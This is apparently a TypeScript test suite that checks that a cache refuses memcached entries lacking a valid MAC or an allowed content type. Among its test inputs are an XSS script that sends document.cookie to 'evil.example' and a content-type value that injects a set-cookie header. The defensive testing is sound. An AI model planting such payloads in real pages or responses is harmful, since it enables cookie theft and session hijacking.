// Authenticated memcached entries (issue 15, item 4): whoever can write to memcached must not be able
// to make the app serve anything. Pure checks of the MAC and content-type rules, then poisoned
// entries written straight into a REAL memcached (no MAC, a wrong MAC, a MAC made for another key, a
// foreign key, authentic text/html, a forged negative entry, a forged generation): never served, the
// request loads from the upstream and repairs the entry. Key rotation, and what a MAC costs per get.
import * as assert from "node:assert/strict";
import { performance } from "node:perf_hooks";
import {
  createTwoTierCache, deriveNamespaceKey, isAllowedContentType, isServableAnswer, keyId, mediaTypeOf, METRIC, namespaceKeyring, openEntry,
  parseAllowedContentTypes, parseMacKeys, sealEntry, servableAnswerCheck, type TwoTierCache, type TwoTierCacheOptions,
} from "../../../functions/cache";
import { startMemcached, type MemcachedServer } from "../../support/memcached";
import { memcachedText, newMacKey, quantile, recorder, sleep } from "./helpers";

const ring = (keys: string, ns: string) => namespaceKeyring(parseMacKeys(keys), ns);

describe("cache/integrity: MAC and content-type rules (pure)", () => {
  const K1 = newMacKey();
  const K2 = newMacKey();

  it("parses keys: base64 or base64url, 32-256 bytes, at most 4, no duplicates; errors never show a key", () => {
    assert.equal(parseMacKeys(K1).length, 1);
    assert.equal(parseMacKeys(` ${K1}, ${K2}\n`).length, 2);
    assert.deepEqual(parseMacKeys(Buffer.from(K1, "base64url").toString("base64")), parseMacKeys(K1), "base64 and base64url are the same key");
    const short = Buffer.alloc(31, 1).toString("base64");
    for (const [bad, re] of [["", /no cache entry key/], [short, /#1 has 31 bytes/], [`${K1},${K1}`, /#2 is listed twice/], [`${K1},%%%`, /#2 is not base64/],
      [[K1, K2, newMacKey(), newMacKey(), newMacKey()].join(","), /5 cache entry keys given; at most 4/]] as const) {
      assert.throws(() => parseMacKeys(bad), (e: Error) => re.test(e.message) && !e.message.includes(K1) && !e.message.includes(short), String(re));
    }
  });

  it("derives one key per namespace; key ids say nothing about the key", () => {
    const [m] = parseMacKeys(K1);
    assert.notDeepEqual(deriveNamespaceKey(m, "api"), deriveNamespaceKey(m, "sc-v1"));
    assert.notEqual(ring(K1, "api").signId, ring(K1, "sc-v1").signId);
    assert.match(keyId(deriveNamespaceKey(m, "api")), /^[A-Za-z0-9_-]{8}$/);
    assert.equal(ring(`${K2},${K1}`, "api").signId, ring(K2, "api").signId, "the first key signs");
  });

  it("seals and opens; any change to the payload, the key name, the MAC or the key id is refused", () => {
    const r = ring(K1, "api");
    const payload = '{"s":1,"f":2,"e":3,"d":{"status":200,"contentType":"application/json","body":"{}"},"g":0}';
    const sealed = sealEntry(r, "api:v2:abc", payload);
    assert.match(sealed, /^~m1:[A-Za-z0-9_-]{8}:[A-Za-z0-9_-]{43}:\{/);
    assert.deepEqual(openEntry(r, "api:v2:abc", sealed), { ok: true, payload, keyId: r.signId });
    const reason = (raw: string, key = "api:v2:abc"): string => { const o = openEntry(r, key, raw); return o.ok ? "ok" : o.reason; };
    assert.equal(reason(payload), "unsigned");
    assert.equal(reason(sealed.replace('"f":2', '"f":9')), "bad-mac", "a stretched freshness");
    assert.equal(reason(sealed.replace("application/json", "text/html")), "bad-mac");
    assert.equal(reason(sealed, "api:v2:abd"), "bad-mac", "the same entry under another key");
    assert.equal(reason(sealed, "sc-v1:v2:abc"), "bad-mac", "the same entry in another namespace");
    assert.equal(reason(sealEntry(ring(K2, "api"), "api:v2:abc", payload)), "unknown-key");
    assert.equal(reason(sealed.slice(0, 40)), "malformed");
    assert.equal(reason(`${sealed.slice(0, 13)}${"!".repeat(43)}${sealed.slice(56)}`), "malformed");
    const flipped = sealed.slice(0, 20) + (sealed[20] === "A" ? "B" : "A") + sealed.slice(21);
    assert.equal(reason(flipped), "bad-mac");
    // Rotation: a ring listing the new key first and the old one second opens both.
    const both = ring(`${K2},${K1}`, "api");
    assert.equal(openEntry(both, "api:v2:abc", sealed).ok, true);
    assert.equal(openEntry(both, "api:v2:abc", sealEntry(both, "api:v2:abc", payload)).ok, true);
  });

  it("content types: only the allowed media types, with at most a charset; nothing that could inject a header", () => {
    const allowed = parseAllowedContentTypes("application/json,text/plain");
    for (const ok of ["application/json", "application/json; charset=utf-8", "Application/JSON;charset=UTF-8", 'text/plain; charset="utf-8"']) {
      assert.ok(isAllowedContentType(ok, allowed), ok);
    }
    for (const bad of ["text/html", "text/html; charset=utf-8", "application/json\r\nset-cookie: a=b", "application/json; boundary=x", "application/json, text/html",
      "image/svg+xml", "application/javascript", "", undefined, 42, "application/json; charset=" + "x".repeat(200)]) {
      assert.ok(!isAllowedContentType(bad, allowed), String(bad));
    }
    assert.equal(mediaTypeOf(" text/plain ; charset=utf-8 "), "text/plain");
    assert.throws(() => parseAllowedContentTypes("text/*"), /not a media type/);
    assert.throws(() => parseAllowedContentTypes(" , "), /empty/);
    assert.ok(isServableAnswer({ status: 200, contentType: "application/json", body: "{}" }, allowed));
    for (const bad of [{ status: 500, contentType: "application/json", body: "" }, { status: 200, contentType: "text/html", body: "<script>" }, { status: 200, contentType: "application/json", body: 1 }, null, "x"]) {
      assert.ok(!isServableAnswer(bad, allowed), JSON.stringify(bad));
    }
  });
});

describe("cache/integrity: poisoned memcached entries (real memcached)", function () {
  this.timeout(30_000);
  let mc: MemcachedServer;
  const K = newMacKey();
  const OTHER = newMacKey();
  const caches: TwoTierCache[] = [];
  let seq = 0;
  const allowed = ["application/json", "text/plain"];
  const accept = servableAnswerCheck(allowed);
  const GOOD = { status: 200, contentType: "application/json", body: '{"id":"42","name":"Widget"}' };
  const EVIL = { status: 200, contentType: "text/html", body: "<script>document.location='https://evil.example/?c='+document.cookie</script>" };

  const mk = (namespace: string, keys: string | undefined, extra: Partial<TwoTierCacheOptions> = {}): TwoTierCache => {
    const c = createTwoTierCache({
      namespace,
      l1: { maxEntries: 0 },
      memcached: { servers: [mc.address] },
      ...(keys ? { entryAuth: { keys } } : {}),
      ...extra,
    });
    caches.push(c);
    return c;
  };
  const envelope = (d: unknown, extra: Record<string, unknown> = {}): string => {
    const now = Date.now();
    return JSON.stringify({ s: now, f: now + 60_000, e: now + 120_000, d, g: 0, ...extra });
  };
  const put = async (key: string, raw: string): Promise<void> => {
    const reply = await memcachedText(mc.address, `set ${key} 0 120 ${Buffer.byteLength(raw)}\r\n${raw}\r\n`, /\r\n$/);
    assert.equal(reply, "STORED\r\n");
  };
  const raw = async (key: string): Promise<string | undefined> => {
    const text = await memcachedText(mc.address, `get ${key}\r\n`, /END\r\n$/);
    const m = /^VALUE \S+ \d+ \d+\r\n([\s\S]*)\r\nEND\r\n$/.exec(text);
    return m?.[1];
  };

  before(async () => { mc = await startMemcached(); });
  after(async () => {
    await Promise.all(caches.map((c) => c.close()));
    await mc?.stop();
  });

  const poisons: { name: string; reason: string; make: (skey: string, ns: string) => string }[] = [
    { name: "no MAC (a plain envelope, as an older release or any client writes it)", reason: "unsigned", make: () => envelope(EVIL) },
    { name: "a wrong MAC (an authentic entry whose value was changed)", reason: "bad-mac", make: (skey, ns) => sealEntry(ring(K, ns), skey, envelope(GOOD)).replace("application/json", "text/html") },
    { name: "a valid MAC made for another item's key", reason: "bad-mac", make: (_skey, ns) => sealEntry(ring(K, ns), `${ns}:v2:someOtherItemKeyxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`, envelope(EVIL)) },
    { name: "a MAC under a key this stack does not have", reason: "unknown-key", make: (skey, ns) => sealEntry(ring(OTHER, ns), skey, envelope(EVIL)) },
    { name: "an authentic entry holding text/html (defence in depth: the content type is checked too)", reason: "value", make: (skey, ns) => sealEntry(ring(K, ns), skey, envelope(EVIL)) },
    { name: "an authentic entry whose content type injects a header", reason: "value", make: (skey, ns) => sealEntry(ring(K, ns), skey, envelope({ ...GOOD, contentType: "application/json\r\nset-cookie: session=attacker" })) },
    { name: "a forged negative entry (would make the item 404 for everyone)", reason: "unsigned", make: () => envelope(null, { n: { c: 502, u: 404 } }) },
  ];

  for (const p of poisons) {
    it(`${p.name}: not served, counted and logged; the request loads from the upstream and repairs the entry`, async () => {
      const ns = `poison${++seq}`;
      const rec = recorder();
      const c = mk(ns, K, rec);
      const skey = c.storageKey("item");
      await put(skey, p.make(skey, ns));
      let loads = 0;
      const r = await c.getOrLoad("item", async () => { loads++; return GOOD; }, { accept });
      assert.equal(r.source, "MISS");
      assert.deepEqual(r.value, GOOD);
      assert.equal(loads, 1, "loaded from the upstream instead");
      assert.ok(rec.count(METRIC.entryRejected) >= 1, "CacheEntryRejected");
      const line = rec.logs.find((l) => l.level === "warn" && /memcached entries rejected/.test(l.message));
      assert.ok(line, "logged");
      assert.ok(((line.extra as { reasons: Record<string, number> }).reasons[p.reason] ?? 0) >= 1, `reason ${p.reason}: ${JSON.stringify(line.extra)}`);
      // Repaired: what memcached holds now verifies and is the upstream's answer.
      const stored = await raw(skey);
      const opened = openEntry(ring(K, ns), skey, stored ?? "");
      assert.ok(opened.ok, "the poisoned entry was overwritten by an authentic one");
      assert.deepEqual(JSON.parse(opened.ok ? opened.payload : "{}").d, GOOD);
      const other = mk(ns, K);
      assert.equal((await other.getOrLoad("item", async () => { throw new Error("not called"); }, { accept })).source, "HIT-L2");
    });
  }

  it("an authentic entry (written by another environment with the same key) is served from memcached", async () => {
    const ns = `valid${++seq}`;
    const writer = mk(ns, K);
    const skey = writer.storageKey("item");
    await put(skey, sealEntry(ring(K, ns), skey, envelope(GOOD)));
    const rec = recorder();
    const reader = mk(ns, K, rec);
    const r = await reader.getOrLoad("item", async () => { throw new Error("must not load"); }, { accept });
    assert.equal(r.source, "HIT-L2");
    assert.deepEqual(r.value, GOOD);
    assert.equal(rec.count(METRIC.entryRejected), 0);
  });

  it("a cache without keys never reads sealed entries as plain ones, and a keyed cache never reads plain ones", async () => {
    const ns = `mixed${++seq}`;
    const keyed = mk(ns, K);
    await keyed.getOrLoad("a", async () => GOOD, { accept });
    const plain = mk(ns, undefined);
    let loads = 0;
    assert.equal((await plain.getOrLoad("a", async () => { loads++; return GOOD; })).source, "MISS");
    assert.equal(loads, 1);
  });

  it("a loaded value that `accept` refuses (the upstream answered text/html) is neither cached nor served: 502", async () => {
    const ns = `loadhtml${++seq}`;
    const c = mk(ns, K);
    await assert.rejects(c.getOrLoad("item", async () => EVIL, { accept }), (e: { statusCode?: number; invalidAnswer?: string }) => e.statusCode === 502 && e.invalidAnswer === "content-type");
    const stored = await raw(c.storageKey("item"));
    assert.ok(stored === undefined || !stored.includes("<script>"), "not stored");
  });

  it("a forged namespace generation (unsigned, near 2^53: would break every later flush) is ignored and replaced", async () => {
    const ns = `gen${++seq}`;
    await put(`${ns}:gen`, "9007199254740991");
    const rec = recorder();
    const c = mk(ns, K, rec);
    assert.equal((await c.getOrLoad("x", async () => GOOD, { accept })).source, "MISS");
    assert.ok(c.generation() < 9007199254740991, `generation ${c.generation()}`);
    assert.ok(rec.count(METRIC.entryRejected) >= 1);
    const stored = await raw(`${ns}:gen`);
    assert.ok(openEntry(ring(K, ns), `${ns}:gen`, stored ?? "").ok, "rewritten, signed");
    const flushed = await c.flush();
    assert.equal(flushed.ok, true);
    assert.ok(Number.isSafeInteger(flushed.generation));
    // A sealed generation from another namespace's key does not verify here either.
    await put(`${ns}:gen`, sealEntry(ring(K, "elsewhere"), `${ns}:gen`, "9007199254740990"));
    const d = mk(ns, K);
    await d.getOrLoad("y", async () => GOOD, { accept });
    assert.ok(d.generation() < 9007199254740990);
  });

  it("rejections are logged at most once per interval, with the counts of what was summed", async () => {
    const ns = `flood${++seq}`;
    const rec = recorder();
    const c = mk(ns, K, { ...rec, rejectLogIntervalMs: 300 });
    for (let i = 0; i < 40; i++) {
      const skey = c.storageKey(`k${i}`);
      await put(skey, envelope(EVIL));
      await c.getOrLoad(`k${i}`, async () => GOOD, { accept });
    }
    const lines = () => rec.logs.filter((l) => /memcached entries rejected/.test(l.message));
    assert.ok(rec.count(METRIC.entryRejected) >= 40);
    assert.equal(lines().length, 1, "one line for the burst");
    await sleep(320);
    await put(c.storageKey("late"), envelope(EVIL));
    await c.getOrLoad("late", async () => GOOD, { accept });
    assert.equal(lines().length, 2);
    const summed = (lines()[1].extra as { reasons: Record<string, number> }).reasons.unsigned;
    assert.ok(summed >= 40, `the second line sums what the first did not show (${summed})`);
  });

  it("rotation: old signs + new accepted, then new signs + old accepted, then new only; no environment in a phase rejects another's entries", async () => {
    const ns = `rot${++seq}`;
    const OLD = newMacKey();
    const NEW = newMacKey();
    const phases = [OLD, `${OLD},${NEW}`, `${NEW},${OLD}`, NEW];
    // Environments of adjacent phases run side by side while the change propagates.
    for (let i = 0; i + 1 < phases.length; i++) {
      const rec = recorder();
      const a = mk(ns, phases[i], rec);
      const b = mk(ns, phases[i + 1], rec);
      const k1 = `p${i}-a`;
      const k2 = `p${i}-b`;
      await a.getOrLoad(k1, async () => GOOD, { accept });
      await b.getOrLoad(k2, async () => GOOD, { accept });
      assert.equal((await b.getOrLoad(k1, async () => { throw new Error("reload"); }, { accept })).source, "HIT-L2", `phase ${i + 1} reads phase ${i}`);
      assert.equal((await a.getOrLoad(k2, async () => { throw new Error("reload"); }, { accept })).source, "HIT-L2", `phase ${i} reads phase ${i + 1}`);
      assert.equal(rec.count(METRIC.entryRejected), 0);
    }
    // Skipping a phase is what fails (safely: a miss, never a wrong answer).
    const rec = recorder();
    const oldOnly = mk(ns, OLD, rec);
    const newOnly = mk(ns, NEW);
    await newOnly.getOrLoad("skip", async () => GOOD, { accept });
    assert.equal((await oldOnly.getOrLoad("skip", async () => GOOD, { accept })).source, "MISS");
    assert.ok(rec.count(METRIC.entryRejected) >= 1);
  });

  it("a key loader is re-read every refreshMs: a rotation reaches a running environment without a restart", async () => {
    const ns = `refresh${++seq}`;
    const OLD = newMacKey();
    const NEW = newMacKey();
    const source = { text: OLD, calls: 0 };
    const c = mk(ns, undefined, { entryAuth: { keys: async () => { source.calls++; return source.text; }, refreshMs: 200 } });
    await c.getOrLoad("a", async () => GOOD, { accept });
    const before = c.entryAuth().signKeyId;
    assert.equal(source.calls, 1);
    source.text = `${NEW},${OLD}`;
    await c.getOrLoad("a", async () => GOOD, { accept });
    assert.equal(source.calls, 1, "not before refreshMs");
    await sleep(220);
    await c.getOrLoad("a", async () => GOOD, { accept });
    assert.equal(source.calls, 2);
    assert.notEqual(c.entryAuth().signKeyId, before);
    assert.equal(c.entryAuth().keyIds.length, 2);
  });

  it("a key load frozen in flight (provisioned concurrency: init, then a freeze) is started again at the first request, not waited out", async () => {
    const ns = `lost${++seq}`;
    const t = { now: Date.now() };
    const source = { calls: 0 };
    const c = mk(ns, undefined, {
      clock: () => t.now,
      entryAuth: { keys: () => (++source.calls === 1 ? new Promise<string>(() => undefined) : Promise.resolve(K)), waitMs: 50 },
    });
    assert.equal((await c.getOrLoad("a", async () => GOOD, { accept })).source, "MISS");
    assert.equal(c.entryAuth().ready, false, "the first load never settles");
    assert.equal(source.calls, 1);
    t.now += 6000; // the environment was frozen, then thawed by an invocation
    await c.getOrLoad("a", async () => GOOD, { accept });
    assert.equal(source.calls, 2, "a new load was started");
    assert.equal(c.entryAuth().ready, true);
  });

  it("measured: what the MAC costs per get (CPU per entry, and an L2 hit with and without it, side by side)", async function () {
    this.timeout(60_000);
    // A 940-byte value, as in npm run bench.
    const value = { status: 200, contentType: "application/json; charset=utf-8", body: JSON.stringify({ id: "42", name: "Widget", text: "x".repeat(850) }) };
    const r = ring(K, "cost");
    const payload = envelope(value);
    const sealed = sealEntry(r, "cost:v2:abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ", payload);
    const N = 20_000;
    for (let i = 0; i < 2000; i++) openEntry(r, "cost:v2:abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ", sealed);
    let t = performance.now();
    for (let i = 0; i < N; i++) openEntry(r, "cost:v2:abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ", sealed);
    const verifyUs = ((performance.now() - t) * 1000) / N;
    t = performance.now();
    for (let i = 0; i < N; i++) sealEntry(r, "cost:v2:abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ", payload);
    const sealUs = ((performance.now() - t) * 1000) / N;

    const plain = mk("cost-plain", undefined);
    const keyed = mk("cost-keyed", K);
    await plain.getOrLoad("v", async () => value, { accept });
    await keyed.getOrLoad("v", async () => value, { accept });
    // Alternate the two caches request by request (the order flips every request), so that the noise of
    // a shared machine falls on both alike; the paired differences' median is the cost per get.
    const samples = { plain: [] as number[], keyed: [] as number[] };
    const diffs: number[] = [];
    const once = async (cache: TwoTierCache): Promise<number> => {
      const s = performance.now();
      const res = await cache.getOrLoad("v", async () => { throw new Error("miss"); }, { accept });
      const us = (performance.now() - s) * 1000;
      assert.equal(res.source, "HIT-L2");
      return us;
    };
    for (let i = 0; i < 200; i++) { await once(plain); await once(keyed); } // warm-up
    for (let i = 0; i < 3000; i++) {
      const [a, b] = i % 2 === 0 ? [await once(plain), await once(keyed)] : (([y, x]) => [x, y])([await once(keyed), await once(plain)]);
      samples.plain.push(a);
      samples.keyed.push(b);
      diffs.push(b - a);
    }
    const p = (xs: number[], q: number): string => quantile(xs, q).toFixed(1);
    console.log(`      measured: MAC verify ${verifyUs.toFixed(2)} µs, seal ${sealUs.toFixed(2)} µs per 940-byte entry (CPU); `
      + `getOrLoad L2 hit (L1 off) p50/p99 without MAC ${p(samples.plain, 0.5)}/${p(samples.plain, 0.99)} µs, with MAC ${p(samples.keyed, 0.5)}/${p(samples.keyed, 0.99)} µs; `
      + `median paired difference ${p(diffs, 0.5)} µs per get`);
    assert.ok(verifyUs < 50, `verify ${verifyUs} µs`);
  });
});
